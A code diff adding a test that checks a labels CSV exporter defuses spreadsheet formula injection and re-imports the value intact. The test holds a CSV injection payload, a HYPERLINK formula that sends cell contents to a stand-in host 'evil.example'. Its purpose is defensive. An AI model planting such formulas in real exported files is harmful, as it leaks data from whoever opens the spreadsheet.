@@ -77,6 +77,26 @@ describe('labels as CSV and the mechanism commands', () => {
     expect(labelSheetCsv(a.store, studyId, 'second').trim().split('\r\n')).toHaveLength(1);
   });
 
+  it('writes a formula rationale defused and reads it back as written (issue 10 #4)', () => {
+    const [first] = findFlippedReps(a.store, studyId);
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    const cell = `"${formula.replace(/"/g, '""')}"`;
+    importLabelsCsv(
+      a.store,
+      `rep_id,annotator,label,sub_mode,rationale\n${first!.repId},mallory,hallucination,,${cell}\n`,
+    );
+    const csv = exportLabelsCsv(a.store, studyId, { all: true });
+    expect(csv).toContain(`,mallory,hallucination,,"'=HYPERLINK(""http://evil.example/?""&A1`);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    a.store.db.prepare(`DELETE FROM mechanism_labels WHERE source = 'human:mallory'`).run();
+    const rows = csv.split('\r\n').filter((row, index) => index === 0 || row.includes('mallory'));
+    importLabelsCsv(a.store, rows.join('\n'));
+    expect(listStudyLabels(a.store, studyId, ['human:mallory'])).toMatchObject([
+      { rationale: formula },
+    ]);
+    a.store.db.prepare(`DELETE FROM mechanism_labels WHERE source = 'human:mallory'`).run();
+  });
+
   it('rejects a labels file with bad rows whole, every bad row listed by line', () => {
     const [first, second] = findFlippedReps(a.store, studyId);
     const text = [
